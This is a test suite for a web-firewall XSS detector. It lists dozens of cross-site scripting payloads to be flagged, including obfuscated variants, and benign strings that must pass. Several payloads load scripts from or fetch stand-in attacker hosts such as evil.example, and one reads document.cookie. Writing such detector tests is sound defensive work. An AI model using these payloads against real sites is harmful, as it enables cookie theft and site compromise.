import type { Paranoia } from '../types';
import { xssDetector } from './xss.detector';

const inspect = (value: string, paranoia: Paranoia = 1) => xssDetector.inspect({ point: 'query.q', value, raw: value }, { paranoia });

describe('xssDetector', () => {
  it.each([
    ['<script>alert(1)</script>', 'xss/script-tag'],
    ['"><ScRiPt src=//evil.example/x.js></script>', 'xss/script-tag'],
    ['<svg/onload=alert(1)>', 'xss/event-handler'],
    ['<img src=x onerror=prompt`1`', 'xss/event-handler'],
    ["<details open ontoggle='fetch(\"//e.example\")'>", 'xss/event-handler'],
    ['<a href="jav\tascript:alert(document.domain)">x</a>', 'xss/script-url'],
    ['<form><button formaction=javascript:alert(1)>go', 'xss/script-url'],
    ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a>', 'xss/script-url'],
    ['<object data="data:text/html;base64,PHNjcmlwdD4=">', 'xss/script-url'],
    ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', 'xss/srcdoc'],
    ['<embed src=//evil.example/x.swf>', 'xss/embedded-object'],
    ['<div style="width: expr/**/ession(alert(1))">', 'xss/style-expression'],
    ['<style>body{background:url("javascript:alert(1)")}</style>', 'xss/style-expression'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">', 'xss/meta-refresh'],
    ['<base href="https://evil.example/">', 'xss/base-href'],
    ['<svg><set attributeName=onmouseover to=alert(1)>', 'xss/svg-animation'],
    ['" autofocus onfocus="alert(document.cookie)', 'xss/attribute-breakout'],
    ['";alert(1)//', 'xss/script-breakout'],
    ["'-alert(1)-'", 'xss/script-breakout'],
    ['`${fetch(`//e.example`)}`', 'xss/template-breakout'],
    ['</script><svg onload=alert(1)>', 'xss/event-handler'],
    ['x</script>', 'xss/script-close'],
    ['javascript:alert(1)//', 'xss/script-url'],
    ['data:text/html,<b>hi</b>', 'xss/script-url'],
    ['prompt(1);>', 'xss/script-expression'],
  ])('given %j, when inspected at paranoia 1, then it is a %s hit', (payload, detector) => {
    const hit = inspect(payload);
    expect(hit).not.toBeNull();
    expect(hit?.detector).toBe(detector);
    expect(hit?.type).toBe('xss');
    expect(hit?.point).toBe('query.q');
    expect(payload).toContain(hit?.payload);
  });

  it.each([
    'I <3 this product',
    'a < b and c > d',
    'x<y',
    'John Smith <john.smith@example.com>',
    'use <b>bold</b> and <i>italics</i>',
    '<p>Hello <a href="https://example.com/docs">docs</a></p>',
    'if 2 < 3 then x = 4 > 1',
    "O'Reilly said \"hi\"; then left",
    'https://example.com/search?q=a&b=(c)',
    'javascript: the good parts',
    'javascript:void(0)',
    '{"name":"widget","price":"$10"}',
    'Please confirm (yes or no) by 2024-01-01',
    'dGhpcyBpcyBiYXNlNjQ=',
    'f47ac10b-58cc-4372-a567-0e02b2c3d479',
    'onion=3&online=yes',
    'the document.title is nice',
  ])('given the benign %j, when inspected at paranoia 1, then there is no hit', (value) => {
    expect(inspect(value)).toBeNull();
  });

  it('given harmless markup, when the paranoia rises, then it is flagged from level 2 (links) or 4 (bold)', () => {
    expect(inspect('<a href="https://example.com">x</a>', 2)?.detector).toBe('xss/html-injection');
    expect(inspect('<b>bold</b>', 3)).toBeNull();
    expect(inspect('<b>bold</b>', 4)?.detector).toBe('xss/html-injection');
  });

  it('given an XML body whose attribute carries escaped markup, when inspected, then the decoded value is judged', () => {
    const body = '<?xml version="1.0"?><root><a probe="&lt;script&gt;x&lt;/script&gt;"></a></root>';
    const hit = xssDetector.inspect({ point: 'body', value: body, raw: body }, { paranoia: 1 });
    expect(hit?.detector).toBe('xss/script-tag');
    expect(hit?.payload).toBe('<script>');
  });

  it('given a plain XML body, when inspected, then there is no hit', () => {
    const body = '<?xml version="1.0"?><order id="5"><item sku="A-1">2 &lt; 3 &amp; more</item></order>';
    expect(xssDetector.inspect({ point: 'body', value: body, raw: body }, { paranoia: 1 })).toBeNull();
  });

  it('given javascript:void(0), when inspected at paranoia 2, then it is a script URL', () => {
    expect(inspect('javascript:void(0)', 2)?.detector).toBe('xss/script-url');
  });

  it('given an unclosed tag at the end of a long value, when inspected, then it returns quickly', () => {
    const value = '<a '.repeat(20000) + '<title>'.repeat(5000);
    const started = performance.now();
    inspect(value, 4);
    expect(performance.now() - started).toBeLessThan(1000);
  });
});

describe('xssDetector on obfuscated markup', () => {
  const inspect = (value: string, paranoia: Paranoia = 1) => xssDetector.inspect({ point: 'query.q', value, raw: value }, { paranoia });

  it.each([
    ['x<f o r m action=//evil>', 'xss/obfuscated-tag'],
    ['$<d i a l o g open', 'xss/obfuscated-tag'],
    ['< x: script', 'xss/obfuscated-tag'],
    ['\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', 'xss/script-tag'],
    ['\u00bcscript\u00be\u00a2XSS\u00a2\u00bc/script\u00be', 'xss/us-ascii-markup'],
    ['\\xbcscript\\xbealert(1)\\xbc/script\\xbe', 'xss/us-ascii-markup'],
    ['\\xc2\\xbcimg\\xc2\\xbe', 'xss/us-ascii-markup'],
    ['javascript:\\\\u0061lert', 'xss/script-url'],
    ['javascript:a=1', 'xss/script-url'],
    [' data: , <svg>', 'xss/script-url'],
    ['<style>@\\\\69mport', 'xss/style-expression'],
    ['<STYLE>=\\\\', 'xss/style-expression'],
    ['<:vmlframe src=//evil/x.fml>', 'xss/embedded-object'],
    ['(document/*x*/)["cookie"]', 'xss/script-expression'],
    ["' onselect=$.getScript('//evil.example') '", 'xss/attribute-breakout'],
    ["'formaction=//evil.example", 'xss/attribute-breakout'],
  ])('given %j, when inspected at paranoia 1, then it is a %s hit', (payload, detector) => {
    expect(inspect(payload)?.detector).toBe(detector);
  });

  it.each([
    'if a < b and c > d',
    'x < f or m',
    'price < form factor',
    'a < script kiddie',
    '\u00bc cup of sugar, \u00be cup of milk',
    'javascript: the good parts',
    'data: 1, 2, 3',
    'data: , <3 you',
    '<3 \uff1cheart\uff1e',
    "it's a \"srcdoc\" attribute",
    'ratio 5:3 at 12:30',
    'if a < b: image quality improves',
    'a < x: svg',
    '<style>.q{content:"\\201C"}</style>',
    '<svg width="10" xlink:href="#icon"></svg>',
  ])('given the benign %j, when inspected at paranoia 1, then there is no hit', (value) => {
    expect(inspect(value)).toBeNull();
  });
});

describe('xssDetector on adversarial input', () => {
  it.each([
    ['spaces', ' '.repeat(100000) + 'x='],
    ['open comments', '<a href="' + '<!--'.repeat(20000) + '">'],
    ['quotes', '"'.repeat(50000) + ';alert'],
    ['identifiers', 'document'.repeat(20000)],
  ])('given a long run of %s, when inspected at paranoia 4, then it returns within a second', (_name, value) => {
    const started = performance.now();
    xssDetector.inspect({ point: 'query.q', value, raw: value }, { paranoia: 4 });
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it.each(['\'\';!--"<XSS>=&{()}', ';!--"<xss>=&{()}'])('given the XSS locator %j, when inspected at paranoia 1, then it is an xss/probe-tag hit', (text) => {
    expect(xssDetector.inspect({ point: 'query.q', value: text, raw: text }, { paranoia: 1 })?.detector).toBe('xss/probe-tag');
  });

  it.each(['<b>XSS</b> is a class of bugs', 'xss <3 tests', '<xsl:template match="/">'])('given %j, when inspected at paranoia 1, then no probe tag fires', (text) => {
    expect(xssDetector.inspect({ point: 'query.q', value: text, raw: text }, { paranoia: 1 })?.detector).not.toBe('xss/probe-tag');
  });

  it('given a value that opens by closing an HTML comment, when inspected, then paranoia 2 flags it and 1 does not', () => {
    expect(xssDetector.inspect({ point: 'query.q', value: '-->', raw: '-->' }, { paranoia: 1 })).toBeNull();
    expect(xssDetector.inspect({ point: 'query.q', value: '-->', raw: '-->' }, { paranoia: 2 })?.detector).toBe('xss/comment-close');
    expect(xssDetector.inspect({ point: 'query.q', value: 'a --> b', raw: 'a --> b' }, { paranoia: 2 })).toBeNull();
  });
});
